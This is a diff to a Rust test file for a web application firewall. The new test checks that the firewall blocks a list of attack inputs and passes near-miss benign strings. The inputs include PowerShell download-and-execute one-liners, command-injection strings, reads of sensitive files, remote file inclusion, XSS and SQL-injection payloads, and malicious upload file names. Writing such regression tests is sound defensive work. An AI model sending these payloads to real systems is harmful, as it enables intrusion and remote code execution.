@@ -222,9 +222,75 @@ fn oversize_requests_are_blocked_or_passed_as_configured() {
     assert!(!blocked(&waf(r#"{"max_fields": 5000, "max_inspect_bytes": 1000000}"#), json(records)));
 }
 
+/// Attacks of kinds the CRS regression corpus the project measures with
+/// does not hold, written here: detection has to reach past the cases it
+/// was tuned on.
+#[test]
+fn attacks_beyond_the_measured_corpus() {
+    let w = waf("");
+    let enc = |s: &str| -> String {
+        s.bytes()
+            .map(|b| if b.is_ascii_alphanumeric() { (b as char).to_string() } else { format!("%{b:02X}") })
+            .collect()
+    };
+    let upload = |name: &str| {
+        let body =
+            format!("--B\r\nContent-Disposition: form-data; name=\"f\"; filename=\"{name}\"\r\n\r\nx\r\n--B--\r\n");
+        testing::post("/up", body).header("content-type", "multipart/form-data; boundary=B").build()
+    };
+    for attack in [
+        "WEB-INF/web.xml",
+        ".git/config",
+        "/var/log/nginx/access.log",
+        "http://192.168.7.10/shell.txt",
+        "powershell.exe -nop -w hidden -c x",
+        "; Invoke-WebRequest -Uri http://x/a -OutFile a.exe",
+        "(New-Object Net.WebClient).DownloadString('http://x/a')",
+        "; iwr http://x/a | iex",
+        "& reg query HKLM\\Software",
+        "{,ifconfig}",
+        ";{ls,-la}",
+        "zip://uploads/a.zip#shell.php",
+        "x.parentNode.removeChild(x)",
+        "<v:vmlframe src=x>",
+        "[][(![]+[])[+[]]+(![]+[])[!+[]+!+[]]]",
+        "alert`1`",
+        "throw onerror=alert,1",
+        "[1].map(alert)",
+        "-1 or 2>1",
+        "select * from pg_catalog.pg_tables",
+        "1 and database()=1",
+        "4294967295",
+        "1e309",
+        "alter database x character set utf8",
+        "admin';",
+    ] {
+        assert!(blocked(&w, testing::get(&format!("/?x={}", enc(attack))).build()), "{attack}");
+    }
+    for name in [".user.ini", "web.config", "shell.jsp", "a.jspx"] {
+        assert!(blocked(&w, upload(name)), "{name}");
+    }
+    // Their near misses pass.
+    for text in [
+        "friends{name,id},photos{id,link}",
+        "*.{jpg,png}",
+        "2147483647",
+        "database (mysql) vs postgres",
+        "how to alter a dress with a character of its own",
+        "powershell get-help examples",
+        "Rock 'n' Roll; the best of 1969",
+        "regedit reg query tutorial",
+        "(1 + 2) * [3]",
+        "-1 or more",
+    ] {
+        assert!(!blocked(&w, testing::get(&format!("/?x={}", enc(text))).build()), "{text}");
+    }
+    assert!(!blocked(&w, upload("report.jsp.pdf")));
+}
+
 #[test]
 fn paranoia_levels_add_rules() {
-    let url = "/?u=http://10.1.2.3/x";
+    let url = "/?next=https://elsewhere.example/page";
     assert!(!blocked(&waf(""), testing::get(url).build()));
     assert!(blocked(&waf(r#"{"paranoia_level": 2}"#), testing::get(url).build()));
 }
